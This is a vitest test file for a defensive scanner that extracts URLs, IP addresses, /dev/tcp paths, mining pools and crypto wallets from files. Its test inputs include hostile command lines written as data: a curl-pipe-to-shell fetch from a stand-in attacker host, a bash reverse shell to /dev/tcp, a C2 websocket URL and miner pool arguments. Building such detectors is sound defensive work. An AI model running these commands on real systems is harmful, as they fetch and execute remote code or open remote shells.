import { describe, expect, it } from 'vitest';
import { scan, stringsIn } from './scan.js';

const monero = '42ooWUV7UBwRqDnzzm9jKfhcooCBWGnNYeXX79bFvD5GEtJNsNKLgSpFPPxKjTpQjECsK6X3QGJp1bkiuweiF2h7EDBzmNp';
const integrated = '4HsVoC1SVeT8JbpaFF6vsmb1KY5cM1W31MM7Ph2Zg64gEkEEZE8ys8yHtbP9nXp891NUJX7ZD9n3d8AAYnG9FxbTdv1mVJDG9avK8f7L1j';

describe('URLs in a file', () => {
  it.each([
    ['curl -s http://evil.example.net/a.sh | sh', 'url http://evil.example.net/a.sh'],
    ['see (https://host.example.org/x?a=b&c=%20d#e).', 'url https://host.example.org/x?a=b&c=%20d#e'],
    ['"wss://c2.example.org:8443/ws"', 'url wss://c2.example.org:8443/ws'],
    ['ftp://user:secret@files.example.org', 'url ftp://user:secret@files.example.org'],
    ['\x01\x02Ahttp://1.2.3.4/x\0\x07', 'url http://1.2.3.4/x'],
    ['http://[2001:db8::1]:8080/x', 'url http://[2001:db8::1]:8080/x'],
    ['http://backdoor:8080/x', 'url http://backdoor:8080/x'],
    ['http://3232235777/x', 'url http://3232235777/x'],
    ['HTTP://Evil.Example.NET/', 'url http://Evil.Example.NET/'],
    ['http://a.example.org,http://b.example.org', 'url http://a.example.org'],
    ['visit http://a.example.org.', 'url http://a.example.org'],
    ['https://www.w3.org@evil.example.net/', 'url https://www.w3.org@evil.example.net/'],
  ])('of %j are found', (text, found) => {
    expect(stringsIn(text)).toContain(found);
  });

  it.each([
    'http://localhost:8080/x http://127.0.0.1/ http://0.0.0.0:1/ http://[::1]:80/',
    'http://%s:%d/ https://$HOST/ http://{{ .Host }}/ http:// https://',
    'xmlns="http://www.w3.org/2000/svg"',
    'http://word/ http://999.1.1.1/',
    'news://a.example.org file:///etc/passwd c://x.example.org mailto:a@example.org',
    'std::string a://b.example.org',
  ])('are none in %j', (text) => {
    expect(stringsIn(text)).toEqual([]);
  });

  it('are found in UTF-16 as in ASCII', () => {
    expect(stringsIn(Buffer.from('\u1234get https://evil.example.net/x now', 'utf16le'))).toEqual(['url https://evil.example.net/x']);
    expect(stringsIn(Buffer.concat([Buffer.from([9]), Buffer.from('at 10.1.2.3:4444 and pool.supportxmr.com:3333', 'utf16le')]))).toEqual([
      'address 10.1.2.3:4444',
      'pool pool.supportxmr.com:3333',
    ]);
    expect(stringsIn(Buffer.from(`id=${monero};`, 'utf16le'))).toEqual([`wallet ${monero}`]);
  });

  it('are cut, not left out, when they are long', () => {
    const [url] = stringsIn(`http://a.example.org/${'x'.repeat(100_000)} http://b.example.org`);
    expect(url).toHaveLength(204);
    expect(url).toMatch(/x…$/);
  });
});

describe('addresses in a file', () => {
  it.each([
    ['connect 10.20.30.40:4444 now', '10.20.30.40:4444'],
    ['"192.168.1.1:65535"', '192.168.1.1:65535'],
    ['server=8.8.8.8:53.', '8.8.8.8:53'],
    ['[2001:db8::dead:beef]:443', '[2001:db8::dead:beef]:443'],
    ['bash -i >& /dev/tcp/10.0.0.5/9001 0>&1', '/dev/tcp/10.0.0.5/9001'],
    ['cat </dev/udp/10.0.0.5/53', '/dev/udp/10.0.0.5/53'],
  ])('of %j are found', (text, address) => {
    expect(stringsIn(text)).toEqual([`address ${address}`]);
  });

  it.each([
    'version 1.2.3.4 of openssl',
    'lib-1.2.3.4:5 v1.2.3.4:80 1.2.3.4.5:80 x1.2.3.4:80',
    'listen 0.0.0.0:80, 127.0.0.1:6379, [::]:22 and [::1]:80',
    '1.2.3.4:0 1.2.3.4:65536 1.2.3.4:080 1.2.3.4:80a 1.2.3.4:80:90 1.2.3.4:8.5',
    '256.1.1.1:80 01.2.3.4:80 1.2.3:80 239.1.1.1:80',
    '12:34:56 [1:2]:3 [12:34:56:78]:9 a[::x]:80',
    '/dev/tcp/127.0.0.1/80 /dev/tcp/$IP/80 /dev/tcp/1.2.3.4/ /dev/null',
  ])('are none in %j', (text) => {
    expect(stringsIn(text)).toEqual([]);
  });

  it('are not listed again where they are part of a URL', () => {
    expect(stringsIn('http://1.2.3.4:80/x')).toEqual(['url http://1.2.3.4:80/x']);
  });
});

describe('mining pools in a file', () => {
  it.each([
    ['"url": "stratum+tcp://pool.example.org:3333"', 'stratum+tcp://pool.example.org:3333'],
    ['stratum+ssl://x.example.org:443', 'stratum+ssl://x.example.org:443'],
    ['stratum2+tcp://0xabc.worker@eth.example.org:4444', 'stratum2+tcp://0xabc.worker@eth.example.org:4444'],
    ['daemon+http://node.example.org:18081', 'daemon+http://node.example.org:18081'],
    ['"url": "gulf.moneroocean.stream:10128",', 'gulf.moneroocean.stream:10128'],
    ['-o POOL.SupportXMR.com:443 -u x', 'POOL.SupportXMR.com:443'],
    ['https://xmr.2miners.com:2222/', 'https://xmr.2miners.com:2222/'],
  ])('of %j are found', (text, pool) => {
    expect(stringsIn(text)).toEqual([`pool ${pool}`]);
  });

  it('are none in names that only sound like one, nor in a blocklist', () => {
    expect(stringsIn('connectionpool.py:123 thread.pool:80 pool.example.org:8080')).toEqual([]);
    expect(stringsIn('0.0.0.0 pool.supportxmr.com\n0.0.0.0 nanopool.org\nnotsupportxmr.com:3333')).toEqual([]);
  });

  it('are found inside of a URL that would cover them', () => {
    expect(stringsIn('http://a.example.org/?x=stratum+tcp://pool.example.org:3333')).toContain('pool stratum+tcp://pool.example.org:3333');
  });
});

describe('wallets in a file', () => {
  it.each([
    ['of Monero', monero],
    ['of Monero, a subaddress', '85aNWXFzLsTDvmDbb85nZNb6Tw3qri35pUcZ5QFFL1MRaQSjzvpNmZza3jacpk2eMWcWVWvRomAVhZsu5977W2vTRgooCn4'],
    ['of Monero, integrated', integrated],
    ['of Bitcoin', '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa'],
    ['of Bitcoin, of a script', '3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy'],
    ['of Bitcoin, bech32', 'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4'],
    ['of Bitcoin, bech32 in capitals', 'BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4'],
    ['of Bitcoin, bech32m', 'bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0'],
    ['of Ethereum', '0xde0B295669a9FD93d5F28D9Ec85E40f4cb697BAe'],
  ])('%s are found among other bytes, wherever they begin', (_kind, wallet) => {
    for (let before = 0; before < 60; before += 1) {
      expect(stringsIn(`${'-'.repeat(before)}user=${wallet}.worker1 `)).toEqual([`wallet ${wallet}`]);
      expect(stringsIn(Buffer.from(`\0${'\x01'.repeat(before)}${wallet}\0z\0`, 'latin1'))).toEqual([`wallet ${wallet}`]);
    }
  });

  it.each([
    ['one digit off', '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5'],
    ['longer words', `x${monero} ${monero}x ${integrated}4`],
    ['hashes', '3d5f28d9ec85e40f4cb697bae1a2b3c4 de0b295669a9fd93d5f28d9ec85e40f4cb697bae1a2b3c4d5e6f708192a3b4c5'],
    ['constants', '0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFF 0x0000000000000000000000000000000000000001'],
    ['base64', `${'4AbC9'.repeat(19)} ${'z'.repeat(95)} 4${'z'.repeat(94)} 4A${'1'.repeat(93)}`],
  ])('are none in %s', (_what, text) => {
    expect(stringsIn(text)).toEqual([]);
  });
});

it('finds no wallet at the end of a word that is longer than any', () => {
  for (let before = 1; before < 300; before += 1) expect(stringsIn(`${'z'.repeat(before)}1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa`)).toEqual([]);
});

describe('the strings of a file', () => {
  const many = (count: number, each: (index: number) => string) => Array.from({ length: count }, (_none, index) => each(index)).join('\n');

  it('come in order, each once', () => {
    expect(stringsIn(`1.2.3.4:80 http://a.example.org ${monero} http://a.example.org 1.2.3.4:80 stratum+tcp://p.example.org:1`)).toEqual([
      'address 1.2.3.4:80',
      'url http://a.example.org',
      `wallet ${monero}`,
      'pool stratum+tcp://p.example.org:1',
    ]);
  });

  it('are at most 40, and it is said when there are more', () => {
    const urls = many(41, (index) => `http://a.example.org/${index}`);
    expect(scan(urls)).toMatchObject({ strings: { length: 40 }, stringsCut: true });
    expect(scan(many(40, (index) => `http://a.example.org/${index}`))).toMatchObject({ strings: { length: 40 }, stringsCut: false });
  });

  it('lose no pool and no wallet to what there is much of', () => {
    const noise = `${many(500, (index) => `http://a${index}.example.org/`)}\n${many(500, (index) => `10.0.${index % 256}.${index >> 8}:80`)}`;
    const found = stringsIn(`${noise}\nstratum+tcp://p.example.org:1 ${monero} ${noise}`);
    expect(found).toContain('pool stratum+tcp://p.example.org:1');
    expect(found).toContain(`wallet ${monero}`);
    expect(found.filter((each) => each.startsWith('address'))).not.toHaveLength(0);
    expect(found.filter((each) => each.startsWith('url'))).not.toHaveLength(0);
  });
});
